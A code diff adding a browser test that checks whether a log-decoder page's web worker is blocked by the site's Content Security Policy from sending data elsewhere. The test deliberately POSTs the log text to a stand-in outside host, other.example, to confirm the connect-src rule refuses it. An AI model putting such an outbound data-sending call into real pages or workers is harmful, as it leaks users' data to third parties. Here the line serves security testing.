@@ -52,3 +52,22 @@ test.each(['en/tencent-im/6206/', 'tencent-im/6206/?lang', '404.html'])(
     expect(directives).toEqual(directives.map(() => 'refused'));
   },
 );
+
+test('the decoder’s worker, which reads the log, sends nothing to another site either', async () => {
+  const page = await open('en/decode/', { provokes: refused });
+  const started = page.waitForEvent('worker');
+  await page.locator('textarea#log').fill('code: 6206');
+  await page.locator('#decoded a').first().waitFor();
+  const rule = await (
+    await started
+  ).evaluate(
+    () =>
+      new Promise((resolve) => {
+        addEventListener('securitypolicyviolation', (event) => {
+          resolve((event as SecurityPolicyViolationEvent).effectiveDirective);
+        });
+        fetch('https://other.example/', { method: 'POST', body: 'log' }).catch(() => undefined);
+      }),
+  );
+  expect(rule).toBe('connect-src');
+});
